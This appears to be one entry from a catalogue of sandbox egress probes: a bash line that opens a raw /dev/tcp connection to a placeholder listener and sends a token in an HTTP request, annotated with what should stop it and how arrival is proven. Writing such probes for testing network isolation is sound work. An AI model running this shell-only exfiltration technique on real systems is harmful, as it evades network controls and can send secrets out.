# says: Opens a connection with the shell alone.
# stopped by: network
# proof: arrived
# source: /dev/tcp to a raw address
exec 3<>"/dev/tcp/$LISTENER/$PORT" && printf 'GET /%s HTTP/1.0\r\n\r\n' "$TOKEN" >&3 && timeout 3 cat <&3
